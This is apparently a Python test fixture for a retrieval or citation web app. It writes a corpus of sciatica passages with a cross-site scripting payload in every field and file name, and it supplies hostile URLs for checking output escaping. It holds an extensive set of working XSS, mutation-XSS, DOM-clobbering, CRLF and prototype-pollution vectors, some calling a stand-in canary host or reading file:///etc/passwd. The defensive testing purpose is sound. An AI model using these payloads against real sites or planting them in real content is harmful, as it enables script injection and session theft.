"""Texts that would run as a script wherever one were taken for markup, and a corpus with one of them in every field.

Each payload calls ``pwn`` or shows itself otherwise: a dialog, a changed title, a request to CANARY. Nothing here opens a
browser.
"""

import json
import re
from collections.abc import Sequence
from dataclasses import dataclass, fields, is_dataclass, replace
from pathlib import Path
from typing import Any

from corpus.text import normalise
from web.shown import safe_url

CANARY = "canary.invalid"
PAYLOADS = (
    "<script>pwn('script')</script>",
    "</script><script>pwn('closed script')</script>",
    f"<script src=//{CANARY}/x.js></script>",
    f'<script type="module">import "//{CANARY}/m.js"</script>',
    "<img src=x onerror=pwn('img')>",
    '"><img src=x onerror="pwn(\'quoted\')">',
    "'><img src=x onerror='pwn(1)'>",
    "` onmouseover=pwn(1) x=`",
    f"<img src=//{CANARY}/pixel.png>",
    "<IMG SRC=`javascript:pwn(1)` onerror=pwn(2)>",
    "<svg onload=pwn('svg')>",
    "<svg/onload=pwn(1)//",
    f"<svg><use href=//{CANARY}/s.svg#x></use><script>pwn('svg script')</script></svg>",
    "<svg><animate onbegin=pwn(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:pwn(1)"><text y=1em>x</text></a></svg>',
    "<svg><style><img src=x onerror=pwn('mxss svg')></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwn('mxss math')&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn('noscript')>\">",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="pwn(1)">',
    "<listing>&lt;img onerror=pwn(1) src=x&gt;</listing>",
    "<!--><img src=x onerror=pwn('comment')>-->",
    "<![CDATA[<img src=x onerror=pwn(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwn(1)</x:script>",
    "</textarea><img src=x onerror=pwn('textarea')>",
    "</title><img src=x onerror=pwn('title')>",
    "</blockquote></figure></li></ol><img src=x onerror=pwn('closing')>",
    "</style><img src=x onerror=pwn('style')>",
    "<style>*{background:url(//canary.invalid/c.png)}</style>",
    f"<style>@import '//{CANARY}/c.css';</style>",
    "<p style=\"width:expression(pwn(1));background:url('javascript:pwn(2)')\">x</p>",
    f"<link rel=stylesheet href=//{CANARY}/c.css>",
    f"<link rel=prefetch href=//{CANARY}/p>",
    f'<meta http-equiv="refresh" content="0;url=//{CANARY}/">',
    f'<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="//{CANARY}/">',
    f"<base href=//{CANARY}/ target=pwned>",
    "<iframe srcdoc=\"<script>parent.pwn('srcdoc')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwn('frame')\"></iframe>",
    f"<object data=//{CANARY}/o></object><embed src=//{CANARY}/e>",
    f"<video poster=//{CANARY}/v onloadstart=pwn(1)><source onerror=pwn(2)></video>",
    "<audio src onloadstart=pwn(1)>",
    "<details open ontoggle=pwn('toggle')>",
    "<input autofocus onfocus=pwn('focus')>",
    "<select autofocus onfocus=pwn(1)><option>x</select>",
    "<marquee onstart=pwn(1)>x</marquee>",
    "<body onload=pwn(1) onpageshow=pwn(2)>",
    f"<form action=//{CANARY}/ id=x><button formaction=javascript:pwn(1)>x</button></form>",
    f'<form name="question" method="get" action="//{CANARY}/"><input name="question">',
    "<a href=javascript:pwn(1) id=body name=createElement>x</a>",
    "<img name=getElementById><img name=querySelector><form id=customElements><input name=get>",
    "<a id=trustedTypes><a id=trustedTypes name=defaultPolicy href=x>",
    "<template shadowrootmode=open><img src=x onerror=pwn(1)></template><slot></slot>",
    '<citewell-chat api-base="//canary.invalid" mode="page" open></citewell-chat>',
    '<div data-record=\'{"question":"x","answer":{}}\'></div>',
    "<x onclick=pwn(1) tabindex=1 contenteditable onfocus=pwn(2) autofocus>x</x>",
    '<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart="pwn(\'keyframes\')"></x>',
    '" onfocus="pwn(1)" autofocus="',
    "' onfocus='pwn(1)' autofocus='",
    'en" onload="pwn(1)" dir="rtl"><b title="',
    "${pwn('template literal')} `${pwn(1)}` #{pwn(1)}",
    "{{7*7}} {{constructor.constructor('pwn(1)')()}} {% raw %} {# #}",
    "{n} {percent} {constructor} {__proto__} {toString}",
    "$& $1 $` $' \\u003cimg src=x onerror=pwn(1)\\u003e \\x3cscript\\x3e",
    "&lt;img src=x onerror=pwn(1)&gt; &#60;script&#62;pwn(1)&#60;/script&#62; &amp;lt;",
    "&#x6A;&#x61;vascript&colon;pwn(1) &NewLine;&Tab; &notin; &copy=1",
    "%3Cscript%3Epwn(1)%3C/script%3E %00 %0d%0aSet-Cookie:%20x=1",
    "＜script＞pwn(1)＜/script＞ ﹤img src=x onerror=pwn(1)﹥ ‹script›",
    "\u202e<script>pwn(1)</script>\u202c \u2066<img src=x onerror=pwn(2)>\u2069",
    "<scr\u200bipt>pwn(1)</scr\u200bipt> <\u200dimg src=x onerror=pwn(2)> \ufeff<svg onload=pwn(3)>",
    "<scr\x00ipt>pwn(1)</scr\x00ipt> \x1b[31m<img\x0csrc=x\x0bonerror=pwn(1)>",
    "<img\r\nsrc=x\r\nonerror=pwn(1)>\r\n\r\n<script>\u2028pwn(2)\u2029</script>",
    "- <img src=x onerror=pwn('list')>\n- </ul><script>pwn(1)</script>\n1. <svg onload=pwn(2)>",
    "[x](javascript:pwn(1)) ![x](//canary.invalid/m.png) <javascript:pwn(1)> `<b>`",
    "__proto__ constructor prototype toString hasOwnProperty",
    '{"__proto__":{"innerHTML":"<img src=x onerror=pwn(1)>","href":"javascript:pwn(2)"}}',
    "<script>alert(1)</script><script>document.title='pwned'</script><script>open('//canary.invalid/')</script>",
    f"<script>fetch('//{CANARY}/f');new Image().src='//{CANARY}/i'</script>",
    "<plaintext><xmp><noembed><noframes></plaintext>",
    "<table><tr><td><img src=x onerror=pwn(1)></table><select><template>",
    "\ud83e\uddb4\ud83e\uddb4 <b>\u0301\u0301</b> <i>\U000e0001\U000e0041</i> <script>pwn(1)</script>".encode(
        "utf-16", "surrogatepass"
    ).decode("utf-16"),
)
URLS = (
    "javascript:pwn('href')",
    "JaVaScRiPt:pwn(1)",
    " javascript:pwn(1)",
    "java\nscript:pwn(1)",
    "java\tscript:pwn(1)",
    "\x01javascript:pwn(1)",
    "javascript&colon;pwn(1)",
    "&#106;avascript:pwn(1)",
    "javascript://example.org/%0apwn(1)",
    "javascript:https://example.org/;pwn(1)",
    "data:text/html,<script>parent.pwn(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=",
    "vbscript:pwn(1)",
    "view-source:javascript:pwn(1)",
    "blob:https://example.org/1",
    "filesystem:https://example.org/1",
    "file:///etc/passwd",
    f"//{CANARY}/",
    f"\\\\{CANARY}\\x",
    f"https:\\\\{CANARY}/",
    f"http:///{CANARY}/",
    f"/\\{CANARY}/",
    "https:",
    "http\u017f://example.org/",
    "https://",
    "https://[",
    f'https://example.org/"onmouseover="pwn(1)"x="//{CANARY}',
    "https://example.org/'><img src=x onerror=pwn(1)>",
    f"https://example.org@{CANARY}/",
    f"https://user:pass@{CANARY}/?a=1&b=2",
    "https://example.org/#:~:text=pwn",
    "https://example.org/#a:~:text=<script>pwn(1)</script>",
    "https://example.org/%22%3E%3Cscript%3Epwn(1)%3C/script%3E?x=%0d%0aSet-Cookie:x=1",
    "https://example.org/%",
    "https://example.org/%u003cscript%u003e",
    "https://example.org/\r\nSet-Cookie: x=1\r\n\r\n<script>pwn(1)</script>",
    "https://example.org/{{7*7}}${pwn(1)}`{n}",
    "https://example.org/\u202egpj.x\u202c/\u200b",
    "HTTPS://EXAMPLE.ORG/</a><svg onload=pwn(1)>",
    "https://exa mple.org/ onclick=pwn(1)",
)
FIELDS = ("document", "title", "heading", "url", "publisher", "reviewed", "license", "language", "text", "source", "references")
LEAD = "Sciatica is pain along the sciatic nerve, number {n} of the list."
MARKUP = re.compile(r"[^\w\s]|[^\S \n]")


@dataclass(frozen=True, slots=True)
class Poisoned:
    """A built index of passages with payloads in every field, its folder, and how many passages it was given."""

    index: Path
    given: int


def write_corpus(folder: Path) -> int:
    """Write one file for each payload, with the payload in every field and in the file's name; return how many."""
    for number, payload in enumerate(PAYLOADS):
        path = folder / f"{number:02} {file_name(payload)}.jsonl"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(passage_record(number, payload)) + "\n", "utf-8")
    return len(PAYLOADS)


def file_name(payload: str) -> str:
    """Return the payload as a relative path that a file system takes; its slashes part folders."""
    name = payload.replace("\x00", "")[:150]
    return "/".join(part.strip() for part in name.split("/") if part.strip().strip("."))


def passage_record(number: int, payload: str) -> dict[str, Any]:
    """Return the JSON record of one passage."""
    urls = [URLS[(number * step + step) % len(URLS)] for step in (1, 2, 5)]
    named = dict.fromkeys(("_id", "publisher", "reviewed", "license", "language"), payload)
    works = [{"title": payload, "publisher": payload, "url": url} for url in (*urls[1:], payload)]
    works.append({"title": "", "publisher": "", "url": urls[1]})
    text = f"{LEAD.format(n=number)} {payload}\n\nRest eases the pain of number {number}.\n- {payload}\n- Ice\n\n{payload}"
    lead = {"title": f"{payload} title {number}", "heading": f"{payload} What is sciatica {number}?"}
    return {**named, **lead, "url": urls[0], "text": text, "references": works}


def expected_fields(number: int) -> dict[str, str]:
    """Return the fields of one passage as an index keeps them: of the one normal form, and nothing else changed."""
    record = passage_record(number, PAYLOADS[number])
    return {name: normalise(str(value)) for name, value in record.items() if name not in ("_id", "references")}


def harmless(value: Any) -> Any:
    """Return a value with texts of the same shape that no reader takes for markup: same lines, lists, links and lengths."""
    if isinstance(value, str):
        return _harmless_text(value)
    if isinstance(value, (tuple, list)):
        return type(value)(harmless(item) for item in value)
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{each.name: harmless(getattr(value, each.name)) for each in fields(value)})
    return value


def _harmless_text(text: str) -> str:
    if safe_url(text):
        return "https://example.org/" + "x" * max(0, len(text) - 20)
    return "\n".join(_harmless_line(line) for line in text.split("\n"))


def _harmless_line(line: str) -> str:
    marker = re.match(r"- |[0-9]{1,3}\. |", line)
    start = marker.end() if marker else 0
    return line[:start] + MARKUP.sub("x", line[start:])


def answered_questions(count: int, *, step: int) -> Sequence[str]:
    """Return questions that name passages by their numbers."""
    return [f"What is sciatica, number {number} of the list?" for number in range(0, count, step)]
